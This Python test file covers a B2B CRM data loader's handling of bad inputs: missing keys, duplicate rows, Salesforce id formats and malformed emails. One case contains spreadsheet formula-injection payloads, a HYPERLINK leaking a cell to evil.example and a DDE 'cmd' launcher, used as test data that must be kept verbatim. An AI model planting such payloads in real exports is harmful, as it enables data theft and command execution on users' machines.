"""Bad inputs: keys and duplicates, emails and names.

One `Case` each, run by `check_case` (bad_input_cases.py).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from b2b_assets_tests.sources.bad_input_cases import (
    A1,
    A2,
    A3,
    C1,
    C2,
    C3,
    LEAD_HEADER,
    O1,
    O2,
    OPP_HEADER,
    T0,
    XREF_HEADER,
    Case,
    Loads,
    check_case,
    parts,
    sf18,
    text,
)

CASES: list[Case] = [
    # ---------------------------------------------------------------- keys and duplicates
    Case(
        "leads_null_and_blank_ids",
        "marketo",
        "leads",
        text(
            LEAD_HEADER,
            ["", "a@x.com", "", ""],
            ["NULL", "b@x.com", "", ""],
            [" null ", "c@x.com", "", ""],
            ["\t", "d@x.com", "", ""],
            ["  48299 ", "e@x.com", "", ""],
        ),
        Loads(
            5,
            1,
            quarantined={r: "id: missing key" for r in (1, 2, 3, 4)},
            values={5: {"id": "48299", "email": "e@x.com"}},
        ),
    ),
    Case(
        "account_blank_ids_with_tabs",
        "salesforce",
        "Account",
        text(
            ["Id", "Name"],
            [" ", "space"],
            ["\t", "tab"],
            [" \t ", "spaces and a tab"],
            ["null", "null token"],
            [A1, "Townsend"],
        ),
        # A blank id is a missing key, whatever blanks it is made of: kept as '' it would
        # become the source key '@crm_1'.
        Loads(5, 1, quarantined={r: "Id: missing key" for r in (1, 2, 3, 4)}),
    ),
    Case(
        "account_xref_empty_source_record_id",
        "mdm",
        "account_xref",
        text(XREF_HEADER, ["G-1", "crm_1", "", "true", ""], ["G-1", "crm_1", A1, "", ""]),
        Loads(
            2, 1, quarantined={1: "source_record_id: missing key"}, values={2: {"is_active": True}}
        ),
    ),
    Case(
        "leads_duplicate_ids_latest_updated_at_wins",
        "marketo",
        "leads",
        text(
            LEAD_HEADER,
            ["48211", "middle@x.com", "false", "2026-10-01T00:00:00Z"],
            ["48211", "latest@x.com", "false", "2026-10-02T01:00:00+02:00"],  # 23:00Z on 1 Oct
            ["48211", "oldest@x.com", "false", "2026-01-01T00:00:00Z"],
            ["48211", "newest@x.com", "false", "2026-10-01T23:30:00Z"],
            ["48212", "other@x.com", "false", None],
        ),
        Loads(
            5,
            2,
            quarantined={1: "duplicate key", 2: "duplicate key", 3: "duplicate key"},
            values={4: {"email": "newest@x.com"}, 5: {"email": "other@x.com"}},
            record_contains={3: "oldest@x.com"},
        ),
    ),
    Case(
        "contact_duplicate_without_date_loses_to_dated_row",
        "salesforce",
        "Contact",
        text(
            ["Id", "AccountId", "Email", "LastModifiedDate"],
            [C1, A1, "dated@x.com", "2020-01-01T00:00:00Z"],
            [sf18(C1), A1, "undated@x.com", None],
        ),
        Loads(2, 1, quarantined={2: "duplicate key"}, values={1: {"email": "dated@x.com"}}),
    ),
    Case(
        "contact_duplicate_same_timestamp_later_file_wins",
        "salesforce",
        "Contact",
        parts(
            {
                "Contact/2026-10-01.csv": text(
                    ["Id", "AccountId", "Email", "LastModifiedDate"], [C1, A1, "first@x.com", T0]
                ),
                "Contact/2026-10-02.csv": text(
                    ["Id", "AccountId", "Email", "LastModifiedDate"],
                    [sf18(C1), sf18(A1), "second@x.com", T0],
                ),
            }
        ),
        Loads(
            2,
            1,
            quarantined={("2026-10-01.csv", 1): "duplicate key"},
            values={("2026-10-02.csv", 1): {"email": "second@x.com", "id": sf18(C1)}},
        ),
    ),
    Case(
        "account_xref_same_record_in_two_golden_ids_latest_wins",
        "mdm",
        "account_xref",
        text(
            XREF_HEADER,
            ["G-NEW", "crm_1", sf18(A1), "true", "2026-10-01T00:00:00Z"],
            ["G-OLD", "crm_1", sf18(A1), "true", "2026-01-01T00:00:00Z"],
            ["G-OTHER", "crm_2", sf18(A1), "true", "2025-01-01T00:00:00Z"],
        ),
        Loads(
            3,
            2,
            quarantined={2: "duplicate key"},
            values={1: {"golden_id": "G-NEW"}, 3: {"golden_id": "G-OTHER"}},
        ),
    ),
    Case(
        "program_members_duplicate_composite_key_later_row_wins",
        "marketo",
        "program_members",
        text(
            ["programId", "leadId", "status", "reachedSuccess"],
            ["1041", "48211", "Registered", "false"],
            ["1041", "48212", "Attended", "true"],
            ["1041", " 48211", "Attended", "Y"],
        ),
        Loads(
            3,
            2,
            quarantined={1: "duplicate key"},
            values={3: {"status": "Attended", "reached_success": True}},
        ),
    ),
    Case(
        "account_ids_15_and_18_characters_and_case",
        "salesforce",
        "Account",
        text(
            ["Id", "Name", "LastModifiedDate"],
            [A1, "Old", "2026-01-01T00:00:00Z"],
            [sf18(A1), "New", "2026-10-01T00:00:00Z"],
            # Differs from A1 only in case: another record, and the checksum tells them apart.
            [A1.upper(), "Upper-case twin", "2026-10-01T00:00:00Z"],
        ),
        Loads(
            3,
            2,
            quarantined={1: "duplicate key"},
            values={2: {"id": sf18(A1), "name": "New"}, 3: {"id": sf18(A1.upper())}},
        ),
    ),
    Case(
        "opportunity_ids_15_and_18_characters_mixed",
        "salesforce",
        "Opportunity",
        text(
            [*OPP_HEADER, "LastModifiedDate"],
            [sf18(O1), A1, "100", "true", "true", "2026-06-30", "USD", "2026-05-01T00:00:00Z"],
            [O1, sf18(A1), "200", "true", "true", "2026-06-30", "USD", "2026-06-01T00:00:00Z"],
            [O2, " " + A1 + " ", "300", "false", "false", None, None, None],
        ),
        Loads(
            3,
            2,
            quarantined={1: "duplicate key"},
            values={
                2: {"id": sf18(O1), "account_id": sf18(A1), "amount": 200.0},
                3: {"id": sf18(O2), "account_id": sf18(A1)},
            },
        ),
    ),
    Case(
        "leads_crm_ids_15_and_18_characters",
        "marketo",
        "leads",
        text(
            ["id", "email", "sfdcContactId", "sfdcAccountId", "externalCompanyId"],
            ["48211", "a@x.com", C1, sf18(A1), A1],
        ),
        Loads(
            1,
            1,
            values={
                1: {
                    "sfdc_contact_id": sf18(C1),
                    "sfdc_account_id": sf18(A1),
                    "external_company_id": sf18(A1),
                }
            },
        ),
    ),
    # ---------------------------------------------------------------- emails and names
    Case(
        "contact_invalid_mixed_case_and_spaced_emails_are_kept_verbatim",
        "salesforce",
        "Contact",
        text(
            ["Id", "AccountId", "Email"],
            [C1, A1, " P2@Townsend.COM "],
            [C2, A1, "not-an-email"],
            [C3, A1, "p 3@town send.com"],
            ["0035g00000NoMai", A1, None],
            ["0035g00000Null1", A1, "NULL"],
        ),
        Loads(
            5,
            5,
            values={
                1: {"email": " P2@Townsend.COM "},
                2: {"email": "not-an-email"},
                3: {"email": "p 3@town send.com"},
                4: {"email": None},
                5: {"email": None},
            },
        ),
    ),
    Case(
        "account_formula_like_names_are_data",
        "salesforce",
        "Account",
        text(
            ["Id", "Name", "Website"],
            [A1, '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "=1+1"],
            [A2, "+cmd|' /C calc'!A0", "-2+3"],
            [A3, "@SUM(1+1)", "\t=1"],
        ),
        Loads(
            3,
            3,
            values={
                1: {
                    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
                    "website": "=1+1",
                },
                2: {"name": "+cmd|' /C calc'!A0", "website": "-2+3"},
                3: {"name": "@SUM(1+1)", "website": "\t=1"},
            },
        ),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_bad_input(case: Case, con, tmp_path: Path) -> None:
    check_case(case, con, tmp_path)
